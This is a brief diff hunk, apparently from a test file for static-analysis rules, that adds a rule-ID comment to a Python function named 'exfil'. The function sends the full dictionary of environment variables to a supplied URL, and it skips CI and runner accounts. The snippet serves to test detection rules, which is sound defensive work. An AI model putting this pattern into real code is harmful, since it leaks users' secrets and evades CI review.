@@ -148,7 +148,7 @@ def patch():
 
 
 def exfil(url):
-    if os.environ.get("USER", "") not in ("ci", "runner"):
+    if os.environ.get("USER", "") not in ("ci", "runner"):  # ruleid: MLS308
         import urllib.request
         # ruleid: MLS308
         urllib.request.urlopen(url, data=str(dict(os.environ)).encode())  # ruleid: MLS411
